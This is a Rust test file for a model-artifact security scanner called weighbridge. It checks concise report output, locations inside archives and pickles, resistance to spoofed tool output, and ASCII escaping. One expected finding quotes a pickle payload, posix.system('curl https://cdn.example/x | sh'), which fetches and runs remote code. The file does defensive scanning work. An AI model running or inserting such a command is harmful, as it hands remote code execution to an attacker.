//! What editors and `grep` find.

use weighbridge::{
    fact::{Hop, Op, Place, Site},
    finding::{Finding, Location},
    report::Style,
    verdict::Report,
};

use crate::support::report::{
    ANOMALY, GLOBAL, LOAD, finding, hostile_report, hostile_text, only, opcode, report, source,
    span, torch_zip, whole, written,
};

fn concise(report: &Report) -> String {
    written("concise", report, Style::default())
}

#[test]
fn one_line_each() {
    let mut some = report();
    some.findings.truncate(4);
    some.findings.push(source());
    some.notices = vec!["the clone is shallow".to_owned()];
    insta::assert_snapshot!(concise(&some), @"
    models/large.pt: error[incomplete-read] the bytes are not here: a git-lfs pointer to 4.2 GB that was not fetched
    models/resnet.pt: warning[format-not-allowed] torch-zip is a format that runs code by design (3 times)
    models/resnet.pt@0x1f40-0x1f9e: error[archive-anomaly] two members are named archive/data.pkl, and which one is loaded depends on the reader
    models/resnet.pt!archive/data.pkl@0x1f: error[global-not-allowed] loading runs posix.system('curl https://cdn.example/x | sh'); the policy does not list posix.system
    src/train.py:12:12: error[unsafe-load] torch.load without weights_only=True runs what the file says
    weighbridge: refused: 4 errors in 3 files, 1 warning
    weighbridge: checked: 12 artifacts and 30 source files in the work tree; 1 not read completely, 2 excluded by the policy
    weighbridge: policy: weighbridge.yaml
    weighbridge: note: the clone is shallow
    ");
    let all = report();
    let lines = concise(&all)
        .lines()
        .filter(|line| !line.starts_with("weighbridge: "))
        .count();
    assert_eq!(lines, all.findings.len());
}

#[test]
fn places_inside_things() {
    let inside = |hops: Vec<Hop>, at: Place| Finding {
        primary: Location {
            site: Site { hops, at },
            ..whole("m.bin")
        },
        ..finding(&GLOBAL, "m.bin", "x")
    };
    let member = Hop::Member {
        name: "a/data.pkl".into(),
        copy: 1,
    };
    let at = |offset| Place::Opcode {
        offset,
        op: Some(Op::REDUCE),
    };
    let findings = vec![
        inside(vec![], Place::Whole),
        inside(vec![], at(31)),
        inside(vec![], Place::Bytes { start: 16, end: 32 }),
        inside(vec![member.clone()], Place::Whole),
        inside(vec![member, Hop::Stream(1)], at(0x1f)),
        Finding {
            primary: Location {
                site: Site {
                    hops: vec![Hop::Cell(2)],
                    ..span(3, 5, 9)
                },
                ..whole("n.ipynb")
            },
            ..finding(&LOAD, "n.ipynb", "x")
        },
    ];
    insta::assert_snapshot!(concise(&only(findings)), @"
    m.bin: error[global-not-allowed] x
    m.bin@0x1f: error[global-not-allowed] x
    m.bin@0x10-0x20: error[global-not-allowed] x
    m.bin!a/data.pkl (copy 2): error[global-not-allowed] x
    m.bin!a/data.pkl (copy 2) > pickle 2@0x1f: error[global-not-allowed] x
    n.ipynb!cell 3:3:5: error[unsafe-load] x
    weighbridge: refused: 6 errors in 2 files
    weighbridge: checked: 1 artifact and 1 source file in the work tree
    weighbridge: policy: recommended (built in)
    ");
}

/// Nothing that is called like the program speaks for it, nor does a line of a name begin a line.
#[test]
fn a_name_does_not_speak_for_the_program() {
    for name in [
        "weighbridge: passed",
        "weighbridge:",
        "::error::x",
        " ::error::x",
    ] {
        let text = concise(&only(vec![finding(&ANOMALY, name, "x")]));
        let first = text.lines().next().unwrap();
        assert!(!first.starts_with("weighbridge: "), "{first}");
        assert!(!first.trim_start().starts_with("::"), "{first}");
        assert!(first.ends_with("error[archive-anomaly] x"), "{first}");
    }
    let hostile = hostile_report(&hostile_text(), crate::support::report::hostile);
    let lines = concise(&hostile).lines().count();
    let gone = hostile.findings.iter().any(|finding| {
        finding
            .primary
            .introduced_by
            .as_ref()
            .is_some_and(|it| it.gone)
    });
    let about = 2 + hostile.notices.len() + usize::from(gone) + 1;
    assert_eq!(lines, hostile.findings.len() + about);
}

#[test]
fn ascii_where_that_is_all_there_is() {
    let style = Style {
        unicode: false,
        ..Style::default()
    };
    let one = Finding {
        primary: Location {
            path: "größe.pt".into(),
            ..torch_zip().primary
        },
        ..torch_zip()
    };
    let text = written("concise", &only(vec![one]), style);
    assert!(text.is_ascii() && text.starts_with("gr\\u{f6}"), "{text}");
    assert_eq!(opcode("m", 1, "x").hops.len(), 1);
}
